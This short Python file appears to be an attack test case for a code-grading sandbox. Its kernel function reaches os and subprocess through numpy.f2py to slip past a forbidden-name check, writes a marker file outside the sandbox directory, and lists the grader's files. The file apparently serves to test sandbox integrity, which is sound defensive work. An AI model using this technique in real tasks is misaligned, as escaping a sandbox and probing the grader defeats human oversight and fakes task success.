"""Attack (cann_add): reach os and subprocess through numpy's submodules (numpy.f2py.os,
numpy.f2py.subprocess), neither of which is a forbidden *name*; write a file outside the
sandbox's directory and list the grader's files."""

import numpy as np

from cudalike import cann


@cann.kernel
def add_custom(x, y, z, tiling):
    np.f2py.os.system("echo escaped > $PYTHONPATH/integrity-cann-escape.txt")
    np.f2py.subprocess.run(["ls", np.f2py.os.environ["PYTHONPATH"]])
